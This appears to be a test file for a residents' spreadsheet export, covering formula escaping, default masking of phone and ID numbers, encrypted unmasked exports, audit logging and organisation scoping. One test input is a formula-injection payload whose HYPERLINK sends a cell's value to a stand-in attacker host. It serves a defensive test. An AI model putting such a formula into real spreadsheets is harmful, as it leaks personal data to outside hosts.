import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import officeCrypto from 'officecrypto-tool';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestPlatform, type Client, type TestPlatform } from '../../../test/harness.js';

let t: TestPlatform;
let villageA: Client, villageB: Client, member: Client, admin: Client;
let A: number, B: number;

beforeAll(async () => {
  t = await startTestPlatform({ today: '2026-11-26' });
  [villageA, villageB, member, admin] = (await Promise.all(
    ['village.a', 'village.b', 'village.a.member', 'admin'].map((u) => t.login(u)),
  )) as [Client, Client, Client, Client];
  A = await t.org('500154001001');
  B = await t.org('500154001002');
});
afterAll(() => t?.close());

async function download(c: Client, url: string) {
  const headers: Record<string, string> = {};
  if (c.cookies.size) headers.cookie = [...c.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  const res = await t.platform.http.inject({ method: 'GET', url, headers });
  return { status: res.statusCode, buf: res.rawPayload, headers: res.headers, json: () => JSON.parse(res.body) };
}
async function sheet(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
  const rows: Record<string, ExcelJS.Cell>[] = [];
  ws.eachRow((r, n) => {
    if (n === 1) return;
    rows.push(Object.fromEntries(header.map((h, i) => [h, r.getCell(i + 1)])));
  });
  return { header, rows };
}

describe('export', () => {
  it('neutralises cells that begin with = + - @, and masks personal data by default', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const p = (
      await villageA.post('/api/v1/people', {
        orgId: A,
        name: evil,
        phone: '13612345678',
        occupation: '@SUM(1+1)',
        idNumber: null,
      })
    ).body;
    expect(p.name).toBe(evil);
    await villageA.post('/api/v1/people', { orgId: A, name: '+加号', occupation: '-1' });
    const r = await download(villageA, `/api/v1/people/export.xlsx?orgId=${A}`);
    expect(r.status).toBe(200);
    expect(String(r.headers['content-type'])).toContain('spreadsheetml');
    expect(String(r.headers['content-disposition'])).toContain('attachment');
    expect(r.headers['cache-control']).toBe('no-store');
    const { header, rows } = await sheet(r.buf);
    expect(header).toEqual(expect.arrayContaining(['姓名', '身份证号', '手机号码', '所属组织代码', '标签']));
    const row = rows.find((x) => String(x['姓名']!.value).includes('HYPERLINK'))!;
    expect(row['姓名']!.type).toBe(ExcelJS.ValueType.String); // text, never a formula
    expect(row['姓名']!.value).toBe(`'${evil}`);
    expect(row['职业']!.value).toBe("'@SUM(1+1)");
    expect(row['手机号码']!.value).toBe('136****5678');
    const plusRow = rows.find((x) => String(x['姓名']!.value).includes('加号'))!;
    expect(plusRow['姓名']!.value).toBe("'+加号");
    expect(plusRow['职业']!.value).toBe("'-1");
    expect(rows.every((x) => x['身份证号']!.value === null || /\*{6,}/.test(String(x['身份证号']!.value)))).toBe(true);
    expect(rows.every((x) => x['所属组织代码']!.value === '500154001001')).toBe(true);
    const [e] = await t.sql<{ after: any; actor_name: string; result: string }>(
      `select after, actor_name, result from audit_events where action = 'person.export' order by id desc limit 1`,
    );
    expect(e).toMatchObject({ actor_name: 'village.a', result: 'success' });
    expect(e!.after).toMatchObject({ rows: rows.length, unmasked: false, complete: true, filter: { orgId: A } });
  });

  it('gives clear values only with person.unmask, a reason and a file password, and audits both', async () => {
    expect(
      (await download(member, `/api/v1/people/export.xlsx?unmasked=true&reason=${encodeURIComponent('走访核对')}`))
        .status,
    ).toBe(403);
    expect((await download(admin, '/api/v1/people/export.xlsx')).status).toBe(403);
    const filter = { q: 'HYPERLINK' };
    expect(
      (await member.post('/api/v1/people/export.xlsx', { ...filter, reason: '走访核对', password: 'Export#2026' }))
        .status,
    ).toBe(403);
    // clear values never come as a plain workbook: the GET refuses them, naming the password it lacks
    const before = await t.sql<{ n: number }>(
      `select count(*)::int as n from audit_events where action like 'person.export%'`,
    );
    const plain = await download(
      villageA,
      `/api/v1/people/export.xlsx?unmasked=true&reason=${encodeURIComponent('春节慰问电话核对')}`,
    );
    expect(plain.status).toBe(400);
    expect(plain.json().field).toBe('password');
    const noReason = await villageA.post('/api/v1/people/export.xlsx', { ...filter, password: 'Export#2026' });
    expect([noReason.status, noReason.body.field]).toEqual([400, 'reason']);
    const weak = await villageA.post('/api/v1/people/export.xlsx', {
      ...filter,
      reason: '春节慰问电话核对',
      password: 'weakpass',
    });
    expect([weak.status, weak.body.field]).toEqual([400, 'password']);
    const after = await t.sql<{ n: number }>(
      `select count(*)::int as n from audit_events where action like 'person.export%'`,
    );
    expect(after[0]!.n).toBe(before[0]!.n); // nothing was exported

    const res = await t.platform.http.inject({
      method: 'POST',
      url: '/api/v1/people/export.xlsx',
      payload: { ...filter, reason: '春节慰问电话核对', password: 'Export#2026' },
      headers: {
        cookie: [...villageA.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
        'x-csrf-token': villageA.cookies.get('jinguo_csrf')!,
      },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(String(res.headers['content-disposition'])).toContain('attachment');
    const file = Buffer.from(res.rawPayload);
    expect(officeCrypto.isEncrypted(file)).toBe(true);
    expect(file.includes(Buffer.from('13612345678'))).toBe(false);
    await expect(officeCrypto.decrypt(file, { password: 'Wrong#2026' })).rejects.toThrow();
    const { rows } = await sheet((await officeCrypto.decrypt(file, { password: 'Export#2026' })) as Buffer);
    expect(rows).toHaveLength(1);
    expect(rows[0]!['手机号码']!.value).toBe('13612345678');
    const events = await t.sql<{ action: string; reason: string; after: any }>(
      `select action, reason, after from audit_events where action like 'person.export%' order by id desc limit 2`,
    );
    expect(events.map((e) => e.action).sort()).toEqual(['person.export', 'person.export.unmask']);
    expect(events.every((e) => e.reason === '春节慰问电话核对')).toBe(true);
    expect(events.find((e) => e.action === 'person.export')!.after).toMatchObject({
      rows: 1,
      unmasked: true,
      encrypted: 'ECMA-376 agile (AES-256)',
    });
    expect(JSON.stringify(events)).not.toContain('Export#2026');
  });

  it("exports only the caller's subtree", async () => {
    const r = await download(villageB, '/api/v1/people/export.xlsx');
    const { rows } = await sheet(r.buf);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((x) => x['所属组织代码']!.value === '500154001002')).toBe(true);
    expect(rows.some((x) => String(x['姓名']!.value).includes('HYPERLINK'))).toBe(false);
    expect((await download(villageB, `/api/v1/people/export.xlsx?orgId=${A}`)).status).toBe(404);
  });

  it('streams 5,000 rows in keyset pages; read back with the streaming reader, every row is there once', async () => {
    const [b] = await t.sql<{ path: string; district_id: number }>(
      'select path::text as path, district_id from organizations where id = $1',
      [B],
    );
    await t.sql(
      `insert into persons (org_id, org_path, district_id, name, name_pinyin, name_initials, gender, birth_date)
      select $1, $2::ltree, $3, '批量' || g, 'piliang' || lpad(g::text, 5, '0'), 'pl', 'female', date '1970-01-01' + (g % 10000)
      from generate_series(1, 5000) g`,
      [B, b!.path, b!.district_id],
    );
    const [{ n }] = (await t.sql<{ n: number }>(
      `select count(*)::int as n from persons where org_path <@ $1::ltree and status = 'active'`,
      [b!.path],
    )) as [{ n: number }];
    expect(n).toBeGreaterThan(5000);
    const r = await download(villageB, `/api/v1/people/export.xlsx?orgId=${B}&sort=name`);
    expect(r.status).toBe(200);
    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(r.buf), {
      worksheets: 'emit',
      sharedStrings: 'cache',
      styles: 'ignore',
      hyperlinks: 'ignore',
      entries: 'ignore',
    });
    let count = 0;
    let generated = 0;
    const names = new Set<string>();
    for await (const ws of reader) {
      for await (const row of ws) {
        if (row.number === 1) continue;
        count++;
        const name = String((row.values as unknown[])[1]);
        if (name.startsWith('批量')) {
          generated++;
          names.add(name);
        }
      }
    }
    expect(count).toBe(n);
    expect(generated).toBe(5000);
    expect(names.size).toBe(5000); // every generated person exactly once across the keyset pages
    const [e] = await t.sql<{ after: any }>(
      `select after from audit_events where action = 'person.export' order by id desc limit 1`,
    );
    expect(e!.after.rows).toBe(n);
  });
});
